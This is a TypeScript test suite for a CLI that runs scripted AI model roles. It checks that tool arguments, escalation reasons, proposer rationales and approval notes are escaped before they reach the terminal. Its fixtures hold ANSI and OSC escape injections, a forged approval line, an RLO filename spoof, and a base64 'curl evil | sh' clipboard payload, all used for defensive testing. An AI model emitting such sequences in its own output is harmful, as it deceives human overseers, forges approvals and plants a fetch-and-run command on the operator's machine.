// What a model writes (tool arguments, results, escalation reasons) and what a person types (an approval
// note) reaches the terminal through `run`, `show`, `inbox` and `runs`: an ESC there would be a terminal
// command, a CR or newline could overwrite or forge a line ("→ nightshift approve …"), a U+202E would show
// `a‮txt.exe` reversed. The human text prints each as an escape; --json stays exact.
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, describe, it } from 'node:test';
import { oneLine, printable, terminalSafe } from '../../src/cli/terminal-text.js';
import { json, runCli } from '../support/cli.js';
import { exampleProject } from '../support/examples.js';

const dir = mkdtempSync(join(tmpdir(), 'nightshift-terminal-text-'));
after(() => rmSync(dir, { recursive: true, force: true }));
const env = { NIGHTSHIFT_DATA_DIR: join(dir, 'data') };

const RLO = '\u202e';
const REASON = 'pay \u001b[2J\u001b[31mnow\u001b[0m\rstatus: succeeded\n    → nightshift approve apr_fake';

/** No raw control (but the printed line breaks) and no bidi control reaches the terminal. */
function assertSafe(text: string) {
  const bad = [...text.matchAll(/[\p{Cc}\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/gu)]
    .map((m) => m[0])
    .filter((c) => c !== '\n');
  assert.deepEqual(bad, [], `raw controls in:\n${JSON.stringify(text)}`);
}

describe('model-written text on the terminal', () => {
  mkdirSync(join(dir, 'ws'));
  writeFileSync(
    join(dir, 'role.yaml'),
    'name: evil\ndescription: writes odd text\nautonomy: draft\nmodel: script:./script.json\ninstructions: go\ntools: [fs.read, fs.write]\nworkspace: ./ws\n',
  );
  writeFileSync(
    join(dir, 'script.json'),
    JSON.stringify({
      turns: [
        { call: 'fs.read', args: { path: `a${RLO}txt.exe` } },
        { call: 'fs.write', args: { path: 'x.txt', content: `ok${RLO}\u001b[1A` } },
        { escalate: { category: 'money', reason: REASON, missing: 'a \u001b]0;title\u0007 decision' } },
      ],
    }),
  );

  it('run, inbox, approve, show and runs escape controls and bidi characters; --json is exact', async () => {
    const ran = await runCli(['run', 'role.yaml', '--input', '{}'], { cwd: dir, env });
    assert.equal(ran.code, 3, ran.stderr);
    assertSafe(ran.stdout);
    const runId = /run (run_\w+)/.exec(ran.stdout)![1]!;
    const approvalId = /pending approval (apr_\w+)/.exec(ran.stdout)?.[1];
    assert.ok(approvalId, ran.stdout);

    const inbox = await runCli(['inbox'], { cwd: dir, env });
    assertSafe(inbox.stdout);
    assert.match(inbox.stdout, /fs\.write \[write\] \{"path":"x\.txt","content":"ok\\u202e\\u001b\[1A"\}/);

    const note = 'fine\u001b]0;pwned\u0007\rover';
    const approved = await runCli(['approve', approvalId, '--note', note], { cwd: dir, env });
    assert.equal(approved.code, 3, approved.stderr);
    assertSafe(approved.stdout);
    // The forged line stays inside the escalation's own line.
    const forged = approved.stdout.split('\n').filter((l) => l.includes('apr_fake'));
    assert.equal(forged.length, 1, approved.stdout);
    assert.match(forged[0]!, /^escalated esc_\w+ \[money\] pay \\x1b\[2J.*\\rstatus: succeeded\\n {4}→/);

    for (const args of [['show', runId], ['inbox'], ['runs']]) {
      const out = await runCli(args, { cwd: dir, env });
      assert.equal(out.code, 0, out.stderr);
      assertSafe(out.stdout);
    }
    const shown = await runCli(['show', runId], { cwd: dir, env });
    assert.match(shown.stdout, /approved by tester: fine\\x1b\]0;pwned\\x07\\rover/);
    assert.match(shown.stdout, /no file 'a\\u202etxt\.exe'/);
    assert.equal(shown.stdout.split('\n').filter((l) => l.includes('apr_fake')).length, 2);

    // --json keeps the stored value exact.
    const asJson = await runCli(['show', runId, '--json'], { cwd: dir, env });
    const summary = json<{ escalations: { reason: string }[] }>(asJson);
    assert.equal(summary.escalations[0]?.reason, REASON);
  });

  it("escapes a proposer model's rationale in improve's round lines (printed by no command's escaping)", async () => {
    const project = exampleProject('nightshift-terminal-improve-');
    try {
      // OSC 52 writes the operator's clipboard; ESC[1A ESC[2K moves up and erases the line above; a C1 CSI.
      const rationale = 'better\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007\u001b[1A\u001b[2Kdone\u009b2J \u202eok';
      const script = join(project.path, 'proposer.json');
      writeFileSync(
        script,
        JSON.stringify({
          turns: [{ final: { rationale, changes: { instructions: 'Check the metrics.' } } }],
        }),
      );
      const r = await runCli(
        ['improve', 'examples/roles/ops-monitor.yaml', '--proposer', `script:${script}`, '--repeat', '1'],
        { cwd: project.path, env: { NIGHTSHIFT_DATA_DIR: join(project.path, '.nightshift') } },
      );
      assert.equal(r.code, 0, r.stdout + r.stderr);
      assertSafe(r.stdout);
      assertSafe(r.stderr);
      assert.match(
        r.stdout,
        /rationale: better\\x1b\]52;c;Y3VybCBldmlsIHwgc2g=\\x07\\x1b\[1A\\x1b\[2Kdone\\u009b2J \\u202eok/,
      );
      // --json prints the same value, with what JSON leaves raw (C1, bidi) as \u escapes.
      const h = await runCli(['improve', '--history', 'ops-monitor', '--json'], {
        cwd: project.path,
        env: { NIGHTSHIFT_DATA_DIR: join(project.path, '.nightshift') },
      });
      assertSafe(h.stdout);
      assert.equal(json<{ rounds: { rationale: string }[] }>(h).rounds[0]?.rationale, rationale);
    } finally {
      project.cleanup();
    }
  });

  it('terminalSafe leaves printable text alone and keeps JSON meaning the same', () => {
    const text = printable('a\u001b[2J\u009b\u007f\u202e\n\tb');
    assert.equal(terminalSafe(text), text);
    const value = { s: '\u009b\u007f\u202e\u2028\u001b x' };
    const out = terminalSafe(JSON.stringify(value, null, 2));
    assertSafe(out);
    assert.deepEqual(JSON.parse(out), value);
  });

  it('printable keeps line breaks and tabs; oneLine escapes them too', () => {
    assert.equal(printable('a\tb\nc\r\u001b\u009b\u007f\u2066'), 'a\tb\nc\\r\\x1b\\u009b\\x7f\\u2066');
    assert.equal(oneLine('a\tb\nc'), 'a\\tb\\nc');
    assert.equal(oneLine('émoji 🎉 ok'), 'émoji 🎉 ok');
  });
});
